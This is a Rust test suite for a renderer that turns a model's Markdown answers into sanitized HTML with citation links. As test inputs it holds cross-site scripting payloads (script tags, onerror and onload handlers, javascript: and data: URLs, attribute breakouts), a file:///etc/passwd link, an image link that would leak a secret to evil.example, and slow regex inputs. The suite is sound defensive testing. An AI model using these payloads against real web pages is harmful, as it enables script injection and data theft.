//! What a model writes, kind and hostile.

use std::time::Duration;

use cjhirashi_domain::{
    chat::{Citation, CitationSource, CitationUse, Verdict},
    id::DocumentId,
    passage::TextRange,
    settings::Language,
};
use proptest::prelude::*;

use super::{BlockRenderer, Place, code};

mod diagrams;
mod formulas;
mod lines;
mod notes;
mod style_sheet;

fn citation(n: i32, title: Option<&str>) -> Citation {
    Citation {
        n,
        document_id: DocumentId::parse("doc1").unwrap(),
        version: 1,
        seq: 0,
        start: 10,
        end: 90,
        quote: None,
        page: None,
        score: 0.8,
        verdict: Verdict::Verified,
        uses: Vec::new(),
        replaced: None,
        source: title.map(|title| CitationSource { title: title.to_owned(), text: "passage".to_owned() }),
    }
}

const PLACE: Place<'_> = Place::new("m1", Language::Es);

fn render(source: &str, citations: &[Citation]) -> String {
    super::render(source, citations, PLACE)
}

fn plain(source: &str) -> String {
    render(source, &[])
}

/// Every element and attribute of some HTML, read as a browser's tokenizer reads it: what is not a tag is text.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let is_tag = rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '/' || c == '!' || c == '?');
        if !is_tag {
            continue;
        }
        let mut end = rest.len();
        let mut quote = None;
        for (at, c) in rest.char_indices() {
            match (quote, c) {
                (None, '"' | '\'') => quote = Some(c),
                (Some(open), c) if c == open => quote = None,
                (None, '>') => {
                    end = at;
                    break;
                }
                _ => {}
            }
        }
        let (tag, after) = (&rest[..end], rest.get(end + 1..).unwrap_or_default());
        rest = after;
        let name_end = tag.find(char::is_whitespace).unwrap_or(tag.len());
        let name = tag[..name_end].trim_end_matches('/').to_ascii_lowercase();
        let mut attributes = Vec::new();
        let mut remaining = tag[name_end..].trim();
        while !remaining.is_empty() && remaining != "/" {
            let key_end = remaining.find(['=', ' ']).unwrap_or(remaining.len());
            let key = remaining[..key_end].to_ascii_lowercase();
            remaining = &remaining[key_end..];
            let mut value = String::new();
            if let Some(quoted) = remaining.strip_prefix("=\"") {
                let close = quoted.find('"').expect("a closing quotation mark");
                quoted[..close].clone_into(&mut value);
                remaining = &quoted[close + 1..];
            } else {
                assert!(!remaining.starts_with('='), "an attribute without quotation marks: {tag}");
            }
            attributes.push((key, value));
            remaining = remaining.trim_start();
        }
        found.push((name, attributes));
    }
    found
}

const ELEMENTS: &[&str] = &[
    "details",
    "summary",
    "svg",
    "circle",
    "clippath",
    "defs",
    "ellipse",
    "g",
    "line",
    "lineargradient",
    "marker",
    "path",
    "polygon",
    "polyline",
    "rect",
    "stop",
    "text",
    "tspan",
    "a",
    "blockquote",
    "br",
    "button",
    "code",
    "del",
    "div",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "math",
    "mfrac",
    "mi",
    "mn",
    "mo",
    "mover",
    "mpadded",
    "mphantom",
    "mroot",
    "mrow",
    "ms",
    "mspace",
    "msqrt",
    "mstyle",
    "msub",
    "msubsup",
    "msup",
    "mtable",
    "mtd",
    "mtext",
    "mtr",
    "munder",
    "munderover",
    "mmultiscripts",
    "mprescripts",
    "merror",
    "none",
];

/// Whatever was written, the result holds our elements, no handler, no style, and links only to where they may lead.
fn assert_safe(source: &str, html: &str) {
    for (name, attributes) in tags(html) {
        let element = name.trim_start_matches('/');
        assert!(ELEMENTS.contains(&element), "<{name}> from {source:?}: {html}");
        for (key, value) in attributes {
            assert!(
                !key.starts_with("on") && key != "style" && key != "src" && key != "srcdoc",
                "{key} from {source:?}: {html}"
            );
            if key == "id" {
                let ours = ["fn-m1-", "fnref-m1-", "dg-m1-"].iter().any(|ours| value.starts_with(ours));
                assert!(ours && !value.contains(char::is_whitespace), "the id {value:?} from {source:?}");
            }
            if value.contains("url") && element != "svg" && element != "a" && element != "div" {
                assert!(value.starts_with("url(#dg-m1-") && value.ends_with(')'), "{key}={value:?} from {source:?}");
            }
            if key == "href" {
                let ours = value.starts_with("/documents/doc1?start=10&amp;end=90#passage")
                    || value.starts_with("#fn-m1-")
                    || value.starts_with("#fnref-m1-");
                let out = ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme));
                assert!(ours || out, "a link to {value:?} from {source:?}");
            }
        }
    }
}

#[test]
fn markdown_becomes_our_html() {
    assert_eq!(plain("Hola **mundo**\ny *tú*"), "<p>Hola <strong>mundo</strong>\ny <em>tú</em></p>\n");
    assert_eq!(plain("# Uno\n\n###### Seis"), "<h3>Uno</h3>\n<h6>Seis</h6>\n");
    assert_eq!(plain("3. c\n4. d"), "<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>\n");
    assert_eq!(plain("~~x~~ `a<b`  \n---x"), "<p><del>x</del> <code>a&lt;b</code><br>\n---x</p>\n");
    // Where the style looks for the box of a task: first in the item, or in its first paragraph.
    assert!(
        plain("- [x] done\n- [ ] open")
            .contains("<li><span class=\"task done\" role=\"img\" aria-label=\"Hecho:\">☑</span> done</li>")
    );
    assert!(
        plain("- [ ] one\n\n- [ ] two")
            .contains("<li><p><span class=\"task\" role=\"img\" aria-label=\"Pendiente:\">☐</span> one</p>")
    );
    let table = plain("| a | b |\n|---|--:|\n| 1<br>2 | 3 |");
    assert!(table.contains("<th scope=\"col\">a</th><th scope=\"col\" class=\"right\">b</th>"), "{table}");
    assert!(
        table.contains("<tbody>\n<tr><td>1<br>2</td><td class=\"right\">3</td></tr>\n</tbody></table></div>"),
        "{table}"
    );
    assert!(plain("| a |\n|:-:|\n| 1 |").contains("<td class=\"center\">1</td>"));
}

#[test]
fn raw_html_is_shown_and_not_obeyed() {
    for source in [
        "<script>alert(1)</script>",
        "text <img src=x onerror=alert(1)> text",
        "<div onclick=\"alert(1)\">x</div>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<style>*{display:none}</style>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?><script>",
        "> <a href='javascript:alert(1)'>x</a>",
        "- <math><mtext></mtext><script>alert(1)</script></math>",
        "| a |\n|---|\n| <script>alert(1)</script> |\n",
        "| <img src=x onerror=alert(1)> |\n|---|\n| x |\n",
        "# <script>alert(1)</script>",
        "<br onload=alert(1)>",
        "**<b onmouseover=alert(1)>x**",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "`<script>`\n\n    <script>indented</script>",
        "[^x]: <script>alert(1)</script>\n\nfoot[^x]",
        "[^\"><script>]: x\n\nfoot[^\"><script>]",
    ] {
        assert_safe(source, &plain(source));
    }
}

#[test]
fn links_lead_to_the_web_and_to_mail_only() {
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "\u{1}javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.example/x",
        "/api/v1/documents",
        "../x",
        "http:evil",
        "https:",
        "",
    ] {
        for source in [
            format!("[x](<{address}>)"),
            format!("![x](<{address}>)"),
            format!("[x][r]\n\n[r]: <{address}>"),
            format!("<{address}>"),
        ] {
            let html = plain(&source);
            assert_safe(&source, &html);
            assert!(!html.contains("<a "), "{source:?}: {html}");
        }
    }
    assert_eq!(
        plain("[x](https://a.example/?q=\"1\"&b=<2>)"),
        "<p><a href=\"https://a.example/?q=&quot;1&quot;&amp;b=&lt;2&gt;\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a></p>\n"
    );
    assert!(plain("<mailto:a@b.example>").contains("href=\"mailto:a@b.example\""));
}

#[test]
fn a_picture_is_a_link_because_showing_it_would_tell_its_server() {
    let html = plain("![the secret](https://evil.example/?q=secret)");
    assert!(html.contains("<a href=\"https://evil.example/?q=secret\"") && html.contains(">the secret</a>"), "{html}");
    assert!(!html.contains("<img"));
    let nested = plain("[![a](https://a.example/)](https://b.example/)");
    assert_eq!(nested.matches("<a ").count(), 1, "{nested}");
}

#[test]
fn bare_addresses_are_links_without_the_full_stop_after_them() {
    let html = plain("See (https://a.example/b_(c)), or https://d.example/x?y=1.");
    assert!(html.contains("<a href=\"https://a.example/b_(c)\""), "{html}");
    assert!(html.contains("href=\"https://d.example/x?y=1\"") && html.ends_with(".</p>\n"), "{html}");
    assert!(!plain("xhttps://a.example `https://b.example`").contains("<a "));
}

#[test]
fn the_words_after_a_fence_cannot_leave_their_attribute() {
    for info in
        ["rust\" onclick=\"alert(1)", "\"><script>alert(1)</script>", "rust onload=x", "'><img src=x>", "{.rust #id}"]
    {
        let source = format!("~~~{info}\nfn main() {{}}\n~~~");
        assert_safe(&source, &plain(&source));
    }
    let source = "```html\n<script>alert(\"1\")</script>\n</code></pre><script>alert(2)</script>\n```";
    assert_safe(source, &plain(source));
}

#[test]
fn code_is_coloured_by_classes_and_keeps_every_character() {
    let html = plain("```rust\nfn main() { let s = \"<&>\"; } // ñ\n```");
    assert!(html.contains("<div class=\"code\" data-lang=\"rust\">"), "{html}");
    assert!(html.contains("<span class=\"hl-keyword\">fn "), "{html}");
    assert!(html.contains("&lt;&amp;&gt;") && html.contains("<span class=\"hl-comment\">// ñ"), "{html}");
    for language in [
        "python", "js", "ts", "tsx", "sql", "bash", "console", "json", "toml", "yaml", "go", "java", "c#", "diff",
        "html", "css",
    ] {
        let mut out = String::new();
        code::highlight("x = 1 # y\n", language, &mut Duration::from_secs(9), &mut out);
        assert!(out.contains("hl-") || ["console", "html", "css", "diff"].contains(&language), "{language}: {out}");
    }
    let mut unknown = String::new();
    code::highlight("a < b", "no-such-language", &mut Duration::from_secs(9), &mut unknown);
    assert_eq!(unknown, "a &lt; b");
}

#[test]
fn code_made_to_be_slow_is_shown_without_colours() {
    let begun = std::time::Instant::now();
    let line = format!("{}!", "(a|aa)+".repeat(200));
    let source = format!("```js\n{}\n```", format!("{line}\n").repeat(60));
    let html = plain(&source);
    assert!(html.contains("(a|aa)+"));
    assert!(begun.elapsed().as_secs() < 10, "{:?}", begun.elapsed());
    // Many blocks have no more time than one.
    let many = format!("```js\n{}\n```\n\n", format!("{line}\n").repeat(5)).repeat(60);
    let begun = std::time::Instant::now();
    assert!(plain(&many).contains("(a|aa)+"));
    assert!(begun.elapsed().as_secs() < 10, "{:?}", begun.elapsed());
    let source = format!("```js\n{}\n```", "x".repeat(200_000));
    assert!(!plain(&source).contains("hl-"));
}

#[test]
fn a_citation_is_a_link_to_its_passage() {
    let citations = [citation(1, Some("A \"title\" <b>")), citation(2, None)];
    let html = render("Two years [1]. Gone [2]. None [3]. Both [1, 2] and 【1】.", &citations);
    let link = "<a class=\"cite\" href=\"/documents/doc1?start=10&amp;end=90#passage\" data-n=\"1\" data-verdict=\"verified\" title=\"A &quot;title&quot; &lt;b&gt;\">1</a>";
    assert_eq!(html.matches(link).count(), 3, "{html}");
    assert!(html.contains("Two years&nbsp;<a ") && html.contains(" and&nbsp;<a "), "{html}");
    assert!(html.contains("<span class=\"cite gone\" data-n=\"2\">2</span>") && html.contains("None [3]."), "{html}");
    assert_safe("titles", &html);
    let replaced = Citation { replaced: Some("A \"title\" <b>".to_owned()), ..citation(1, None) };
    let html = render("Two years [1].", &[replaced]);
    let link =
        "<a class=\"cite gone\" href=\"/documents/doc1\" data-n=\"1\" title=\"A &quot;title&quot; &lt;b&gt;\">1</a>";
    assert!(html.contains(link), "{html}");
    // Not in code, not in links, and not to where a reference says.
    let html = render("`a[1]` [see 【1】](https://a.example) x[1]\n\n[1]: https://evil.example", &citations);
    assert_eq!(html.matches("class=\"cite\"").count(), 1, "{html}");
    assert!(!html.contains("evil.example"), "{html}");
    // What a document says in brackets is quoted with backslashes.
    let html = render("«see \\[1\\]» [1]", &citations);
    assert!(html.contains("«see [1]»") && html.matches("class=\"cite\"").count() == 1, "{html}");
    let hostile = [citation(1, Some("\"><script>alert(1)</script><a title=\""))];
    assert_safe("title", &render("x [1]", &hostile));
}

#[test]
fn what_is_nested_without_end_is_cut_and_costs_little() {
    for source in [
        ">".repeat(20_000),
        "- ".repeat(5_000),
        "*a_".repeat(20_000),
        "[".repeat(50_000),
        "![".repeat(20_000),
        "`".repeat(50_000),
        "<".repeat(50_000),
        "$".repeat(50_000),
        "\\(".repeat(30_000),
        "\\[x=".repeat(20_000),
        "[^1]".repeat(20_000),
        "https://".repeat(20_000),
        format!("https://a{}", ")".repeat(100_000)),
        format!("https://a{}", "(".repeat(100_000)),
        "[1]".repeat(50_000),
        format!("|{}", "a|".repeat(5_000)),
        "**a ".repeat(20_000),
        "&#".repeat(20_000),
    ] {
        let begun = std::time::Instant::now();
        let html = plain(&source);
        let taken = begun.elapsed();
        println!("{taken:?} for {} bytes of {:?}", source.len(), &source[..8]);
        assert!(html.matches("<blockquote>").count() <= 50);
        assert_safe(&source[..8], &html);
        // Far above what it takes, even unoptimised on a busy machine; the square of these sizes would take minutes.
        assert!(taken.as_secs() < 30, "{taken:?} for {:?}", &source[..8]);
    }
}

/// What a page looks like after changes, as the browser builds it.
fn put(page: &mut Vec<String>, changes: Vec<(u32, String)>) {
    for (index, html) in changes {
        let index = index as usize;
        if page.len() <= index {
            page.resize(index + 1, String::new());
        }
        page[index] = html;
    }
}

/// The page after every piece, and how many blocks were given.
fn replay(pieces: &[&str]) -> (Vec<String>, usize) {
    let mut renderer = BlockRenderer::new(PLACE);
    renderer.set_citations(vec![citation(1, None)]);
    let mut page: Vec<String> = Vec::new();
    let mut given = 0;
    for piece in pieces {
        renderer.push(piece);
        let changes = renderer.changes();
        given += changes.len();
        put(&mut page, changes);
    }
    while page.last().is_some_and(String::is_empty) {
        page.pop();
    }
    (page, given)
}

#[test]
fn blocks_appear_one_after_the_other_and_only_the_last_is_sent_again() {
    let source = "First paragraph [1].\n\nSecond one.\n\n```rust\nfn a() {}\n\nfn b() {}\n```\n\n- one\n- two\n";
    let words: Vec<&str> = source.split_inclusive(' ').collect();
    let (page, given) = replay(&words);
    assert_eq!(page.len(), 4, "{page:?}");
    assert!(page[0].contains("class=\"cite\""), "{page:?}");
    assert!(!page[0].contains("data-verdict"), "nothing is judged before the end");
    assert!(page[2].contains("fn </span>") && page[3].contains("<li>two</li>"), "{page:?}");
    assert!(given <= words.len() + 6, "{given}");
    let whole = render(source, &[]);
    assert_eq!(whole.matches("<li>").count(), page.concat().matches("<li>").count());
}

#[test]
fn a_fence_that_was_none_gives_its_block_back() {
    let (page, _) = replay(&["text\n``", "`", " `x` more"]);
    assert_eq!(page.len(), 1, "{page:?}");
}

#[test]
fn a_mark_that_was_not_checked_leads_where_its_citation_does() {
    let used = CitationUse { at: 4, verdict: Verdict::NotFound, quote: None };
    let cited = Citation { quote: TextRange::new(20, 30), uses: vec![used], ..citation(1, Some("T")) };
    let html = render("Uno [1] y dos [1].", &[cited]);
    let (first, second) = html.split_once(" y ").expect("both");
    assert!(first.contains("end=90#passage\" data-n=\"1\" data-verdict=\"not_found\""), "{html}");
    assert!(second.contains("quote_end=30#quote\" data-n=\"1\" data-verdict=\"verified\""), "{html}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn each_mark_leads_to_the_words_that_were_found_for_it(pieces in prop::collection::vec(prop::sample::select(vec![
        "año [1]", " [1, 2] ", "【2】", "[^1]", "[2][1]", "\n\n", "\n- ", "`a[1]`", "\\[1]", "**b [2]**", "[x](https://a.example) ",
        "[t [1]](https://a.example)", "![i [2]](https://a.example)", "\n> ", "\n\n| a [1] |\n|---|\n| [2] |\n\n", "$x[1]$", " $3 [1] $4",
        "[1, 9]", "&amp;", "[1\\]", "[2\\] ", "&#91;1]", "&#x3010;2】", "\n\n```\n[1]\n```\n\n", "«q» ",
    ]), 0..30)) {
        let source = pieces.concat();
        let mut cited = [citation(1, Some("T")), citation(2, Some("T"))];
        let mut expected = Vec::new();
        for (place, mark) in (100..).step_by(10).zip(crate::marks(&source)) {
            let at = i32::try_from(source[..mark.range.start].chars().count()).unwrap();
            let known = mark.numbers.iter().all(|n| *n < 3);
            for n in mark.numbers.into_iter().filter(|n| *n < 3) {
                let quote = TextRange::new(place + n, place + n + 3);
                let uses = &mut cited[usize::try_from(n - 1).unwrap()].uses;
                uses.push(CitationUse { at, verdict: Verdict::Weak, quote });
                expected.extend(quote.filter(|_| known).map(|quote| quote.start));
            }
        }
        let html = render(&source, &cited);
        let shown: Vec<i32> = html
            .split("class=\"cite\"")
            .skip(1)
            .filter_map(|link| link.split_once("quote_start=")?.1.split_once('&')?.0.parse().ok())
            .collect();
        prop_assert_eq!(shown, expected, "{}\n{}", source, html);
    }

    #[test]
    fn nothing_that_can_be_written_gets_out(pieces in prop::collection::vec(prop::sample::select(vec![
        "<script>", "</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "[x](", ")", "![", "](", "](javascript:x)",
        "`", "```", "\n```html\n", "\n", "\n\n", "> ", "- ", "| a |\n|---|\n| ", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\text{", "}", "{",
        "[1]", "[1]: javascript:x\n", "[^1]", "[^1]: ", "\"", "'", "<a href=\"", "<!--", "-->", "&lt;", "&#x3c;", "*", "**", "_", "<b", "onclick=", "=", "/>",
        "https://a.example/", "<https://", ">", "ñ", "\u{0}", "\u{1}", "    ", "#", "<br>", "~~", "\\", "【1】", "style=\"x\"",
    ]), 0..40)) {
        let source = pieces.concat();
        let citations = [citation(1, Some("<i>\"'"))];
        assert_safe(&source, &render(&source, &citations));
        let (page, _) = replay(&pieces);
        for html in page {
            assert_safe(&source, &html);
        }
    }

    #[test]
    fn a_text_in_pieces_ends_as_the_text_at_once(words in prop::collection::vec(prop::sample::select(vec![
        "uno dos", "\n", "\n\n", "- a", "  - b", "1. x", "```\n", "code\n", "| a | b |\n", "|---|---|\n", "| 1 | 2 |\n", "# T\n", "> q\n",
        "**b**", "    indented", "---\n", "$$x$$", "===\n", " ", "`", "*",
    ]), 1..30)) {
        let source = words.concat();
        let (by_word, _) = replay(&words);
        let (at_once, _) = replay(&[&source, ""]);
        prop_assert_eq!(by_word, at_once, "{:?}", source);
    }

    #[test]
    fn words_that_are_only_added_are_shown_as_if_the_text_had_been_read_again(pieces in prop::collection::vec(prop::sample::select(vec![
        "uno", "Dos ", " tres", ".", ". ", ", ", "1", "2. ", "1.", ") ", ":", "://x", "http", "https:", " ", "  ", "\n", "\n\n", "-", "- ", "* ", "+ ",
        "> ", "# ", "|", " | ", "---", "===", "`", "``` ", "*", "**", "_", "~~", "[", "](", "]", ")", "[1]", "[^n", "]: ", "<", "<div", "<a ", ">",
        "&amp", ";", "$", "\\", "\\(", "\\)", "ñ", "é ", "…", "á́", "\t", "<br", "!", "![", "[x]: /u", " \"t", "www.", "a@b.c",
    ]), 1..24)) {
        let citations = [citation(1, Some("Manual"))];
        let (mut by_piece, mut read_again) = (BlockRenderer::new(PLACE), BlockRenderer::new(PLACE));
        by_piece.set_citations(citations.to_vec());
        read_again.set_citations(citations.to_vec());
        let (mut one, mut other) = (Vec::new(), Vec::new());
        for piece in &pieces {
            by_piece.push(piece);
            read_again.push(piece);
            read_again.distrust_words();
            put(&mut one, by_piece.changes());
            put(&mut other, read_again.changes());
            prop_assert_eq!(&one, &other, "{:?}", pieces);
        }
    }
}
